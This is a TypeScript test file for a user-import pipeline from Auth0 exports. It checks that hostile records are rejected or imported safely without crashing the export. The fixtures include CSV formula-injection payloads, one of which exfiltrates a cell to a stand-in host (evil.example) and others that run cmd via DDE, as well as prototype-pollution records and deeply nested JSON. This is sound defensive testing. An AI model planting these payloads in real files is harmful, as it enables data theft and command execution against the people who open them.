import {
  SendMessageBatchCommand,
  type SendMessageBatchCommandOutput,
  type SQSClient,
} from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decodeS3EventKey } from '../../../lambdas/splitter/splitter-handler.ts';
import { InMemoryMigrationLedger } from '../../../src/ledger/in-memory-ledger.ts';
import {
  serializeImportMessage,
  type UserMessage,
  userMessageSchema,
} from '../../../src/model/import-message.ts';
import { jobIdFor } from '../../../src/model/job-id.ts';
import type { RecordOutcome } from '../../../src/model/outcome.ts';
import { formatOutcomeReport } from '../../../src/model/outcome-report.ts';
import type { ImportMessageSink } from '../../../src/queue/queue-types.ts';
import { SqsImportMessageSink } from '../../../src/queue/sqs-import-message-sink.ts';
import { parseAuth0UserLine } from '../../../src/sources/auth0/users.ts';
import type { ExportLine } from '../../../src/sources/formats/ndjson-lines.ts';
import { splitExport } from '../../../src/split/split-export.ts';
import { encodeS3EventKey, s3ObjectCreatedEvent } from '../../helpers/s3-events.ts';
import { linePass } from '../../helpers/split-passes.ts';

/**
 * Export content written to hurt: what the line reader hands on (a line of text) but a parser,
 * the queue, a report or an S3 key could choke on. Each hostile record ends in a clear rejection
 * (a reason code) or a safe import (exactly the exported fields), and the records around it still
 * import. Over-long lines, invalid UTF-8 and corrupt gzip are the line reader's cases and are
 * tested with it.
 */

const sourceFile = 'exports/hostile.ndjson';
const jobId = 'job_hostile';
const quietLogger = { debug() {}, info() {}, warn() {}, error() {} };

/** Keeps what the queue would receive, as the consumer would read it back. */
class InMemorySink implements ImportMessageSink {
  readonly bodies: string[] = [];
  async enqueue(message: UserMessage): Promise<void> {
    this.bodies.push(serializeImportMessage(message));
  }
  async flush(): Promise<void> {}
  messages(): UserMessage[] {
    return this.bodies.map((body) => userMessageSchema.parse(JSON.parse(body)));
  }
}

/** SQS's documented limits: 10 entries and 1 MiB per message and per batch (`BatchRequestTooLong`). */
class SizeLimitedSqs {
  readonly bodies: string[] = [];
  async send(command: unknown): Promise<Pick<SendMessageBatchCommandOutput, 'Failed'>> {
    if (!(command instanceof SendMessageBatchCommand)) throw new Error('unexpected command');
    const entries = command.input.Entries ?? [];
    const sizes = entries.map((entry) => Buffer.byteLength(entry.MessageBody ?? ''));
    if (entries.length > 10)
      throw Object.assign(new Error('too many'), { name: 'TooManyEntriesInBatchRequest' });
    if (sizes.reduce((a, b) => a + b, 0) > 1024 * 1024) {
      throw Object.assign(new Error('Batch requests cannot be longer than 1048576 bytes'), {
        name: 'BatchRequestTooLong',
      });
    }
    this.bodies.push(...entries.map((entry) => entry.MessageBody ?? ''));
    return { Failed: [] };
  }
  asClient(): SQSClient {
    return this as unknown as SQSClient;
  }
}

async function* linesOf(texts: string[]): AsyncGenerator<ExportLine> {
  let line = 0;
  for (const text of texts) {
    line += 1;
    yield { line, text };
  }
}

const goodLine = (n: number) =>
  JSON.stringify({
    user_id: `auth0|good-${n}`,
    email: `good${n}@example.com`,
    email_verified: true,
    given_name: 'Ada',
    family_name: 'Lovelace',
  });

/**
 * Splits a good record, the hostile lines, and another good record, the way the splitter does,
 * into an in-memory queue and ledger.
 */
async function splitAround(hostileLines: string[], sink: ImportMessageSink = new InMemorySink()) {
  const ledger = new InMemoryMigrationLedger();
  await ledger.claimSplit({ jobId, sourceFile }, Date.now() + 60_000);
  const rejected: RecordOutcome[] = [];
  const lines = [goodLine(1), ...hostileLines, goodLine(2)];
  const summary = await splitExport(
    {
      jobId,
      passes: [linePass({ sourceFile, lines: linesOf(lines), parseLine: parseAuth0UserLine })],
    },
    { sink, ledger, logger: quietLogger, onRejected: (outcome) => rejected.push(outcome) },
  );
  const outcomes: RecordOutcome[] = [];
  for await (const outcome of ledger.listOutcomes(jobId)) outcomes.push(outcome);
  return { summary, rejected, outcomes, lastLine: lines.length };
}

/** The records around the hostile ones were enqueued, whatever became of those. */
function expectGoodRecordsEnqueued(sink: InMemorySink): UserMessage[] {
  const messages = sink.messages();
  const sourceIds = messages.map((message) => message.user.sourceId);
  expect(sourceIds).toContain('auth0|good-1');
  expect(sourceIds).toContain('auth0|good-2');
  return messages.filter((message) => !message.user.sourceId.startsWith('auth0|good-'));
}

/** A reason an operator can read and a log can carry: a short code, never the data. */
const reasonCode = /^[a-z0-9_:.-]{1,100}$/;

describe('Hostile input: deeply nested and huge JSON values', () => {
  const depth = 200_000;
  const nested = (open: string, close: string, inner = '') =>
    `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

  it.each([
    ['an array', 'picture', nested('[', ']')],
    ['objects', 'identities', nested('{"a":', '}', '1')],
    ['a mapped field', 'given_name', nested('[', ']')],
  ])(
    `imports a record with ${depth.toLocaleString('en')} levels of %s in "%s", with exactly its fields`,
    async (_case, field, value) => {
      const sink = new InMemorySink();
      const hostile = `{"user_id":"auth0|deep","email":"deep@example.com","email_verified":true,"${field}":${value}}`;
      const { summary, rejected } = await splitAround([hostile], sink);

      expect(summary).toMatchObject({ completed: true, read: 3, enqueued: 3 });
      expect(rejected).toEqual([]);
      const [deep] = expectGoodRecordsEnqueued(sink);
      expect(deep?.user).toMatchObject({
        sourceId: 'auth0|deep',
        email: 'deep@example.com',
        emailVerified: true,
      });
      // Nothing of the nested value was carried along: the message stays small.
      expect(deep?.user.firstName).toBeUndefined();
      expect(Buffer.byteLength(serializeImportMessage(deep as UserMessage))).toBeLessThan(2_000);
    },
  );

  // JSON.stringify of a value nested this deep overflows the stack: the value is dropped from
  // metadata, and any parser exception rejects its line alone instead of failing the export.
  it.each([
    ['app_metadata', nested('[', ']')],
    ['user_metadata', nested('{"a":', '}', '1')],
  ])(
    'rejects or safely imports %s nested 200,000 levels deep, and imports the rest',
    async (field, value) => {
      const sink = new InMemorySink();
      const hostile = `{"user_id":"auth0|deep-metadata","email":"deep@example.com","${field}":{"k":${value}}}`;
      const { summary, outcomes } = await splitAround([hostile], sink);

      expect(summary).toMatchObject({ completed: true, read: 3 });
      expectGoodRecordsEnqueued(sink);
      const hostileOutcome = outcomes.find((outcome) => outcome.origin.line === 2);
      if (hostileOutcome !== undefined) expect(hostileOutcome.reason).toMatch(reasonCode);
    },
  );

  it('imports a record whose ignored field holds 900 KB, without carrying it into the queue', async () => {
    const sink = new InMemorySink();
    const hostile = JSON.stringify({
      user_id: 'auth0|huge',
      email: 'huge@example.com',
      picture: `https://example.com/${'x'.repeat(900_000)}`,
      user_metadata: { bio: 'y'.repeat(300_000) },
    });
    const { summary } = await splitAround([hostile], sink);

    expect(summary).toMatchObject({ completed: true, read: 3, enqueued: 3 });
    const [huge] = expectGoodRecordsEnqueued(sink);
    expect(huge?.user.email).toBe('huge@example.com');
    expect(huge?.user.metadata ?? {}).not.toHaveProperty('user.bio');
    expect(Buffer.byteLength(serializeImportMessage(huge as UserMessage))).toBeLessThan(2_000);
  });

  it('treats numbers beyond double precision and values of the wrong type as absent', async () => {
    const sink = new InMemorySink();
    const hostile =
      '{"user_id":"auth0|types","email":"types@example.com","email_verified":"true","given_name":1e999999,"family_name":{"first":"x"},"blocked":"true","logins_count":-1e999999}';
    const { summary } = await splitAround([hostile], sink);

    expect(summary).toMatchObject({ completed: true, enqueued: 3 });
    const [typed] = expectGoodRecordsEnqueued(sink);
    // `email_verified: "true"` is not `true`: an import never upgrades verification on a guess.
    expect(typed?.user).toMatchObject({ email: 'types@example.com', emailVerified: false });
    expect(typed?.user.firstName).toBeUndefined();
    expect(typed?.user.lastName).toBeUndefined();
  });

  it.each([
    [
      'an email that is an array',
      { user_id: 'auth0|a', email: ['a@example.com'] },
      'missing_email',
    ],
    [
      'a user id that is an object',
      { user_id: { toString: 'x' }, email: 'b@example.com' },
      'missing_user_id',
    ],
    ['a JSON array line', [{ user_id: 'auth0|c', email: 'c@example.com' }], 'not_an_object'],
  ])('rejects %s with a reason code, and imports the rest', async (_case, record, reason) => {
    const sink = new InMemorySink();
    const { summary, rejected } = await splitAround([JSON.stringify(record)], sink);

    expect(summary).toMatchObject({ completed: true, read: 3, enqueued: 2 });
    expect(rejected.map((outcome) => outcome.reason)).toEqual([reason]);
    expect(expectGoodRecordsEnqueued(sink)).toEqual([]);
  });

  // Names of a few hundred KB (a line the reader accepts: under 1 MiB) would make a batch over
  // SQS's 1 MiB and fail the split on every retry: such names are rejected (`name_too_long`) and
  // the sink closes a batch before it would pass 1 MiB. (Auth0 caps names far lower; only a
  // tampered export does this.)
  it('rejects or imports records with 300 KB names within SQS limits, and imports the rest', async () => {
    const sqs = new SizeLimitedSqs();
    const hostile = Array.from({ length: 4 }, (_, index) =>
      JSON.stringify({
        user_id: `auth0|long-name-${index}`,
        email: `long${index}@example.com`,
        given_name: 'g'.repeat(300_000),
      }),
    );
    const sink = new SqsImportMessageSink({
      sqs: sqs.asClient(),
      queueUrl: 'https://sqs.eu-west-1.amazonaws.com/123456789012/users',
      maxAttempts: 1,
    });
    const { summary } = await splitAround(hostile, sink);

    expect(summary).toMatchObject({ completed: true, read: 6 });
    const sent = sqs.bodies.map((body) => (JSON.parse(body) as UserMessage).user.sourceId);
    expect(sent).toEqual(expect.arrayContaining(['auth0|good-1', 'auth0|good-2']));
  });
});

describe('Hostile input: __proto__, constructor and prototype keys', () => {
  let prototypeKeysBefore: string[];
  beforeAll(() => {
    prototypeKeysBefore = Object.getOwnPropertyNames(Object.prototype).sort();
  });
  afterAll(() => {
    // Nothing any case parsed reached the prototype every object shares.
    expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeKeysBefore);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).email).toBeUndefined();
  });

  it.each([
    [
      'a top-level __proto__ carrying another email, a password hash and blocked: false',
      '{"user_id":"auth0|proto","email":"own@example.com","blocked":true,"__proto__":{"email":"evil@example.com","blocked":false,"polluted":true,"passwordHash":"$2b$10$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}}',
      { rejected: 'blocked' },
    ],
    [
      'a top-level __proto__ with the user id',
      '{"__proto__":{"user_id":"auth0|evil"},"email":"own@example.com"}',
      { rejected: 'missing_user_id' },
    ],
    [
      'constructor.prototype and prototype keys',
      '{"user_id":"auth0|ctor","email":"ctor@example.com","constructor":{"prototype":{"polluted":true}},"prototype":{"polluted":true},"given_name":"Grace"}',
      { user: { sourceId: 'auth0|ctor', email: 'ctor@example.com', firstName: 'Grace' } },
    ],
    [
      'metadata keyed __proto__, constructor and prototype',
      '{"user_id":"auth0|meta","email":"meta@example.com","app_metadata":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}},"user_metadata":{"__proto__":"q","constructor":"c","prototype":"p"}}',
      { user: { sourceId: 'auth0|meta', email: 'meta@example.com' } },
    ],
    [
      'a password-hash record whose __proto__ carries the hash',
      '{"_id":{"$oid":"65f0c0ffee00000000000001"},"email":"hash@example.com","__proto__":{"passwordHash":"$2b$10$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}}',
      { user: { sourceId: 'auth0|65f0c0ffee00000000000001', email: 'hash@example.com' } },
    ],
    [
      'a password-hash record whose _id.__proto__ carries the id',
      '{"_id":{"__proto__":{"$oid":"65f0c0ffee00000000000002"}},"email":"hash2@example.com"}',
      { rejected: 'missing_user_id' },
    ],
  ] as const)('%s: no pollution, and the right outcome', async (_case, hostile, expected) => {
    const sink = new InMemorySink();
    const { summary, rejected } = await splitAround([hostile], sink);

    expect(summary).toMatchObject({ completed: true, read: 3 });
    const [imported, ...others] = expectGoodRecordsEnqueued(sink);
    if ('rejected' in expected) {
      expect(rejected.map((outcome) => outcome.reason)).toEqual([expected.rejected]);
      expect(imported).toBeUndefined();
      return;
    }
    expect(rejected).toEqual([]);
    expect(others).toEqual([]);
    expect(imported?.user).toMatchObject(expected.user);
    // Only the record's own fields: nothing inherited, no hash from a prototype.
    expect(imported?.user.passwordHash).toBeUndefined();
    expect(Object.getPrototypeOf(imported?.user.metadata ?? {})).toBe(Object.prototype);
    expect(imported?.user).not.toHaveProperty('polluted');
  });
});

/**
 * Reads CSV the way a spreadsheet does (RFC 4180 quoting) with the given list separator, and
 * returns every cell.
 */
function spreadsheetCells(csv: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < csv.length; index += 1) {
    const char = csv.charAt(index);
    if (quoted) {
      if (char === '"' && csv.charAt(index + 1) === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === separator) {
      row.push(cell);
      cell = '';
    } else if (char === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else if (char !== '\r') cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What makes a spreadsheet read a cell as a formula (OWASP, CSV injection). */
const formulaStart = /^[=+\-@\t\r]/;

describe('Hostile input: CSV formula injection in the reports', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    '-1+1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
  ];

  describe.each(payloads)('payload %j', (payload) => {
    async function reportFor() {
      const sink = new InMemorySink();
      const lines = [
        // Rejected: the payload is the source id, which the report shows.
        JSON.stringify({ user_id: payload, email: 'not-an-email' }),
        // Rejected: the payload is in the email and the names, which the report never shows.
        JSON.stringify({
          user_id: 'auth0|blocked-formula',
          email: `${payload.replace(/\s/g, '')}@example.com`,
          given_name: payload,
          family_name: payload,
          blocked: true,
        }),
        // Imported: names are data for WorkOS, carried exactly as exported.
        JSON.stringify({
          user_id: 'auth0|formula-names',
          email: 'formula@example.com',
          given_name: `x${payload}`,
          family_name: payload,
        }),
      ];
      const split = await splitAround(lines, sink);
      return { ...split, sink, report: formatOutcomeReport(split.rejected) };
    }

    it('shows the source id defused, never the email or names, and imports the rest', async () => {
      const { summary, report, rejected, sink } = await reportFor();

      expect(summary).toMatchObject({ completed: true, read: 5, enqueued: 3 });
      expect(rejected.map((outcome) => outcome.reason)).toEqual(['invalid_email', 'blocked']);
      const cells = spreadsheetCells(report, ',');
      expect(cells).toHaveLength(3);
      for (const cell of cells.flat()) expect(cell).not.toMatch(formulaStart);
      // The source id is still there for the operator to read, behind an apostrophe.
      expect(cells[1]?.[2]).toBe(`'${payload.trim()}`);
      expect(report).not.toContain('@example.com');
      const [imported] = expectGoodRecordsEnqueued(sink);
      expect(imported?.user).toMatchObject({
        firstName: `x${payload}`,
        lastName: payload.trim(),
      });
    });

    it('leaves no formula in the per-record report of an import (local mode), whatever the column', () => {
      const report = formatOutcomeReport([
        {
          origin: { jobId, sourceFile: payload, line: 1 },
          kind: 'user',
          sourceId: payload,
          status: 'created',
          workosUserId: payload,
          reason: payload,
        },
      ]);
      const cells = spreadsheetCells(report, ',').flat();
      expect(cells).toHaveLength(12);
      for (const cell of cells) expect(cell).not.toMatch(formulaStart);
    });
  });

  // A spreadsheet whose list separator is ";" (Excel in most of Europe) would split an unquoted
  // `auth0|x;=cmd|' /C calc'!A0;` into cells, one of them a formula: cells holding ";" are quoted.
  it('keeps a source id with ";" from becoming a formula where ";" separates cells', async () => {
    const payload = "auth0|x;=cmd|' /C calc'!A0;";
    const { rejected } = await splitAround([JSON.stringify({ user_id: payload, email: 'no' })]);
    expect(rejected.map((outcome) => outcome.sourceId)).toEqual([payload]);

    const cells = spreadsheetCells(formatOutcomeReport(rejected), ';').flat();
    for (const cell of cells) expect(cell).not.toMatch(formulaStart);
  });
});

describe('Hostile input: object keys with odd characters', () => {
  const bucket = 'workos-import-exports';
  const keys = [
    'exports/tenant export.json.gz',
    'exports/a+b.ndjson',
    'exports/a b.ndjson',
    'exports/100% done.ndjson',
    'exports/%2B is not a plus.ndjson',
    'exports/%%%.ndjson',
    'exports/ünïcödé/用户/пользователи.ndjson',
    'exports/emoji 🙂👩🏽‍💻.ndjson',
    "exports/it's (1) [x] {y} ~!*$;,.ndjson",
    'exports/a&b=c?d#e.ndjson',
    'exports/ leading and trailing .ndjson ',
    'exports/dir//double slash/./../x.ndjson',
    'exports/=HYPERLINK("x").ndjson',
    'exports/tab\tand\nnewline.ndjson',
  ];

  it.each(keys)('decodes %j from an S3 event to exactly the key that was uploaded', (key) => {
    const event = s3ObjectCreatedEvent({ bucket, key, size: 1, eTag: '"abc"' });
    const encoded = event.Records[0]?.s3.object.key ?? '';

    // The event never carries the raw key (S3 URL-encodes it), and decoding gives it back.
    expect(encoded).toBe(encodeS3EventKey(key));
    expect(encoded).not.toMatch(/\s/);
    expect(encoded).not.toMatch(/%(?![0-9A-F]{2})/);
    expect(decodeS3EventKey(encoded)).toBe(key);
    // moto encodes "/" too: the same key either way.
    expect(decodeS3EventKey(encoded.replaceAll('/', '%2F'))).toBe(key);
  });

  it('gives different keys different jobs: "+" and a space are never confused', () => {
    const jobOf = (key: string) => {
      const event = s3ObjectCreatedEvent({ bucket, key, size: 1, eTag: 'abc' });
      return jobIdFor({ bucket, key: decodeS3EventKey(event.Records[0]?.s3.object.key ?? '') });
    };
    const jobIds = ['exports/a+b.ndjson', 'exports/a b.ndjson', 'exports/a%2Bb.ndjson'].map(jobOf);
    expect(new Set(jobIds).size).toBe(3);
  });

  it('refuses a malformed encoding rather than guessing a key', () => {
    expect(() => decodeS3EventKey('exports/%E0%A4%A')).toThrow(URIError);
    expect(() => decodeS3EventKey('exports/%ZZ.ndjson')).toThrow(URIError);
  });

  it('reports rows of an export whose key has odd characters without breaking the CSV', async () => {
    const key = 'exports/a,b "quoted"\nline.ndjson';
    const ledger = new InMemoryMigrationLedger();
    await ledger.claimSplit({ jobId, sourceFile: key }, Date.now() + 60_000);
    const rejected: RecordOutcome[] = [];
    await splitExport(
      {
        jobId,
        passes: [
          linePass({
            sourceFile: key,
            lines: linesOf(['{"email":"x@example.com"}']),
            parseLine: parseAuth0UserLine,
          }),
        ],
      },
      {
        sink: new InMemorySink(),
        ledger,
        logger: quietLogger,
        onRejected: (o) => rejected.push(o),
      },
    );
    const rows = spreadsheetCells(formatOutcomeReport(rejected), ',');
    expect(rows[1]).toEqual([key, '1', '', 'rejected', '', 'missing_user_id']);
  });
});
